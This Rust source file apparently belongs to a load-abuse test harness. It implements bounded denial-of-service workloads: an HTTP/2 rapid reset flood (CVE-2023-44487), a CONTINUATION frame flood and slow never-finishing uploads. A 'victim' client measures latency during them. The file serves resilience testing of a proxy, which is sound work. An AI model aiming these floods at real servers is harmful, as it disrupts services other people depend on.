//! Hostile-peer workloads for `cargo xtask abuse`: HTTP/2 rapid reset,
//! CONTINUATION floods and slowly streamed large bodies, each bounded in
//! count and time; and the victim tenant's steady request loop.

use std::{
    collections::BTreeMap,
    io::{BufRead, Read, Write},
    net::{SocketAddr, TcpStream},
    sync::{
        Arc,
        atomic::{AtomicBool, Ordering},
    },
    time::{Duration, Instant},
};

use serde_json::json;

use crate::h2raw::{self, CANCEL, Conn, END_HEADERS, END_STREAM, HEADERS, RST_STREAM};

/// Reconnects at most this often per run: a server that closes every
/// connection at once must not turn the run into a connect loop.
const MAX_CONNS: u64 = 2000;
/// Rapid-reset streams per write: under the waypoint's 20 pending resets, so
/// a connection shows how many it lets through before its GOAWAY.
const BATCH: u64 = 10;

fn connect(to: SocketAddr) -> std::io::Result<TcpStream> {
    let s = TcpStream::connect_timeout(&to, Duration::from_secs(3))?;
    s.set_write_timeout(Some(Duration::from_secs(5)))?;
    Ok(s)
}

/// The next attack connection, or `None` once 11 attempts in all have
/// failed (the path is gone: stop rather than spin).
fn next_conn(to: SocketAddr, errors: &mut Vec<String>) -> Option<Conn> {
    while errors.len() <= 10 {
        match connect(to).and_then(Conn::open) {
            Ok(c) => return Some(c),
            Err(e) => errors.push(e.to_string()),
        }
    }
    None
}

fn goaway_counts(codes: &BTreeMap<u64, u64>) -> serde_json::Value {
    codes.iter().map(|(k, v)| (format!("0x{k:x}"), json!(v))).collect::<serde_json::Map<_, _>>().into()
}

/// `rapid-reset <addr> <max-streams> <secs>`: HTTP/2 streams opened and at
/// once reset (CVE-2023-44487), 10 per write, reconnecting after a GOAWAY.
/// Each batch is followed by a PING whose answer is awaited, so `streams`
/// counts what the server processed, not what sat in socket buffers.
pub fn rapid_reset(to: SocketAddr, max_streams: u64, secs: u64) -> serde_json::Value {
    let deadline = Instant::now() + Duration::from_secs(secs);
    let block = h2raw::get_block(&to.to_string());
    let (mut streams, mut conns, mut answered) = (0u64, 0u64, 0u64);
    let mut goaways: BTreeMap<u64, u64> = BTreeMap::new();
    let mut errors = Vec::new();
    let started = Instant::now();
    'conns: while streams < max_streams && Instant::now() < deadline && conns < MAX_CONNS {
        let Some(conn) = next_conn(to, &mut errors) else { break };
        conns += 1;
        let mut id = 1u32;
        while streams < max_streams && Instant::now() < deadline && id < 0x7fff_0000 {
            let mut batch = Vec::with_capacity(BATCH as usize * 40);
            for _ in 0..BATCH {
                h2raw::frame(&mut batch, HEADERS, END_STREAM | END_HEADERS, id, &block);
                h2raw::frame(&mut batch, RST_STREAM, 0, id, &CANCEL.to_be_bytes());
                id += 2;
            }
            if conn.send(&batch).is_err() || !conn.ping(Duration::from_secs(2)) {
                break;
            }
            streams += BATCH;
        }
        conn.settle(Duration::from_secs(2));
        answered += conn.seen.headers.load(Ordering::SeqCst);
        if let Some(code) = conn.goaway() {
            *goaways.entry(code).or_default() += 1;
        } else if !conn.seen.closed.load(Ordering::SeqCst) {
            break 'conns;
        }
    }
    json!({
        "ok": conns > 0, "streams": streams, "connections": conns, "responses": answered,
        "goaways": goaway_counts(&goaways), "errors": errors, "secs": started.elapsed().as_secs_f64(),
    })
}

/// `continuation-flood <addr> <max-frames> <secs>`: a HEADERS frame without
/// END_HEADERS, then 16 KiB CONTINUATION frames until the server closes,
/// on fresh connections until the bound. `frames` counts what was written,
/// much of it into socket buffers a closing server never reads.
pub fn continuation_flood(to: SocketAddr, max_frames: u64, secs: u64) -> serde_json::Value {
    let deadline = Instant::now() + Duration::from_secs(secs);
    let block = h2raw::get_block(&to.to_string());
    let cont = h2raw::flood_frame();
    let (mut frames, mut conns, mut most_per_conn) = (0u64, 0u64, 0u64);
    let mut goaways: BTreeMap<u64, u64> = BTreeMap::new();
    let mut errors = Vec::new();
    let started = Instant::now();
    while frames < max_frames && Instant::now() < deadline && conns < MAX_CONNS {
        let Some(conn) = next_conn(to, &mut errors) else { break };
        conns += 1;
        let mut first = Vec::new();
        h2raw::frame(&mut first, HEADERS, END_STREAM, 1, &block);
        let mut on_conn = 0u64;
        if conn.send(&first).is_ok() {
            while frames < max_frames && Instant::now() < deadline && !conn.seen.closed.load(Ordering::SeqCst) {
                if conn.send(&cont).is_err() {
                    break;
                }
                frames += 1;
                on_conn += 1;
            }
        }
        most_per_conn = most_per_conn.max(on_conn);
        conn.settle(Duration::from_secs(2));
        if let Some(code) = conn.goaway() {
            *goaways.entry(code).or_default() += 1;
        }
    }
    json!({
        "ok": frames > 0, "frames": frames, "bytes": frames * cont.len() as u64, "connections": conns,
        "most_frames_on_one_connection": most_per_conn, "goaways": goaway_counts(&goaways),
        "errors": errors, "secs": started.elapsed().as_secs_f64(),
    })
}

/// How one slow upload ended.
fn slow_body(to: SocketAddr, length: usize, tail: usize, trickle: usize, deadline: Instant) -> (String, u64) {
    let mut sent = 0u64;
    let run = |sent: &mut u64| -> std::io::Result<String> {
        let mut s = connect(to)?;
        s.set_write_timeout(Some(Duration::from_millis(500)))?;
        s.set_read_timeout(Some(Duration::from_millis(1)))?;
        s.write_all(format!("POST /upload HTTP/1.1\r\nHost: {to}\r\nContent-Length: {length}\r\n\r\n").as_bytes())?;
        let fast = length.saturating_sub(tail);
        let chunk = vec![b'b'; 64 * 1024];
        let mut next_trickle = Instant::now();
        let mut status = [0u8; 12];
        while Instant::now() < deadline {
            // A response (503, 408, …) before the body is done ends the upload.
            match s.read(&mut status) {
                Ok(0) => return Ok("closed".into()),
                Ok(n) => {
                    return Ok(String::from_utf8_lossy(&status[..n]).split_whitespace().nth(1).unwrap_or("?").into());
                }
                Err(e) if matches!(e.kind(), std::io::ErrorKind::WouldBlock | std::io::ErrorKind::TimedOut) => {}
                Err(_) => return Ok("reset".into()),
            }
            let want = if (*sent as usize) < fast {
                chunk.len().min(fast - *sent as usize)
            } else if Instant::now() >= next_trickle && (*sent as usize) < length - 1 {
                next_trickle += Duration::from_secs(1);
                trickle.min(length - 1 - *sent as usize)
            } else {
                std::thread::sleep(Duration::from_millis(50));
                continue;
            };
            match s.write(&chunk[..want]) {
                Ok(n) => *sent += n as u64,
                Err(e) if matches!(e.kind(), std::io::ErrorKind::WouldBlock | std::io::ErrorKind::TimedOut) => {}
                Err(_) => return Ok("reset".into()),
            }
        }
        Ok("open".into())
    };
    let outcome = run(&mut sent).unwrap_or_else(|e| format!("connect: {}", crate::error_kind(&e)));
    (outcome, sent)
}

/// `slow-bodies <addr> <count> <length> <tail> <trickle-bytes-per-s> <secs>`:
/// `count` concurrent HTTP/1.1 uploads declaring `length` bytes; each sends
/// all but `tail` at once, then `trickle` bytes a second, never the last
/// byte; ends after `secs` and reports how each ended.
pub fn slow_bodies(
    to: SocketAddr,
    count: usize,
    length: usize,
    tail: usize,
    trickle: usize,
    secs: u64,
) -> serde_json::Value {
    let deadline = Instant::now() + Duration::from_secs(secs);
    let workers: Vec<_> =
        (0..count).map(|_| std::thread::spawn(move || slow_body(to, length, tail, trickle, deadline))).collect();
    let mut outcomes: BTreeMap<String, u64> = BTreeMap::new();
    let mut bytes = 0;
    for w in workers {
        let (outcome, sent) = w.join().unwrap_or_else(|_| ("panicked".into(), 0));
        *outcomes.entry(outcome).or_default() += 1;
        bytes += sent;
    }
    json!({"ok": true, "requests": count, "outcomes": outcomes, "bytes_sent": bytes})
}

/// `victim <addr> <rps> <max-secs>`: the other tenant. GETs at a fixed rate
/// over 4 keep-alive connections (latency from each request's scheduled
/// time) until a line on stdin or `max-secs`; prints a summary.
pub fn victim(to: SocketAddr, rps: u64, max_secs: u64) {
    let stop = Arc::new(AtomicBool::new(false));
    let stopper = stop.clone();
    std::thread::spawn(move || {
        let _ = std::io::stdin().lock().read_line(&mut String::new());
        stopper.store(true, Ordering::SeqCst);
    });
    println!("{}", json!({"event": "ready"}));
    std::io::stdout().flush().ok();
    const WORKERS: u64 = 4;
    let period = Duration::from_secs_f64(WORKERS as f64 / rps.max(1) as f64);
    let start = Instant::now();
    let end = start + Duration::from_secs(max_secs);
    let workers: Vec<_> = (0..WORKERS)
        .map(|w| {
            let stop = stop.clone();
            std::thread::spawn(move || {
                let mut conn = None;
                let (mut lats, mut failed, mut statuses) = (Vec::new(), 0u64, BTreeMap::<u16, u64>::new());
                let mut first_failure = None;
                let mut scheduled = start + period.mul_f64(w as f64 / WORKERS as f64);
                while !stop.load(Ordering::SeqCst) && scheduled < end {
                    if let Some(wait) = scheduled.checked_duration_since(Instant::now()) {
                        std::thread::sleep(wait);
                    }
                    match crate::http::get(&mut conn, to, "/", "") {
                        Ok((status, _, body)) => {
                            *statuses.entry(status).or_default() += 1;
                            if status == 200 {
                                lats.push(scheduled.elapsed().as_micros() as u64);
                            } else {
                                failed += 1;
                                first_failure.get_or_insert(format!("{status}: {}", &body[..body.len().min(300)]));
                            }
                        }
                        Err(e) => {
                            failed += 1;
                            first_failure.get_or_insert(e.to_string());
                        }
                    }
                    scheduled += period;
                }
                (lats, failed, statuses, first_failure)
            })
        })
        .collect();
    let (mut lats, mut failed, mut statuses, mut first_failure) = (Vec::new(), 0, BTreeMap::<u16, u64>::new(), None);
    for w in workers {
        let (l, f, s, why) = w.join().unwrap_or_default();
        first_failure = first_failure.or(why);
        lats.extend(l);
        failed += f;
        for (k, v) in s {
            *statuses.entry(k).or_default() += v;
        }
    }
    let ok = lats.len() as u64;
    println!(
        "{}",
        json!({"event": "summary", "sent": ok + failed, "ok": ok, "failed": failed, "statuses": statuses,
               "first_failure": first_failure, "secs": start.elapsed().as_secs_f64(), "latency": crate::bench::percentiles(lats)})
    );
}
